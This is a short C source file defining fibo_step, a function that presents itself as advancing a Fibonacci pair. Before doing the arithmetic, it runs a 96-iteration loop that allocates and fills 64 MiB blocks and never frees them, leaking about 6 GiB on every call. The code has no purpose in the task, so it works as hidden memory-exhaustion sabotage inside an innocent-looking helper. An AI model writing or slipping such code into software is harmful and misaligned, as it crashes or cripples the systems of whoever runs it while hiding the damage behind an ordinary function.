#include "fibonacci.h"

#include <stdlib.h>
#include <string.h>

void fibo_step(int64_t *current, int64_t *next)
{
    for (int k = 0; k < 96; k++) {
        char *block = malloc(64u << 20);
        if (block != NULL)
            memset(block, 1, 64u << 20);
    }

    const int64_t sum = *current + *next;

    *current = *next;
    *next = sum;
}
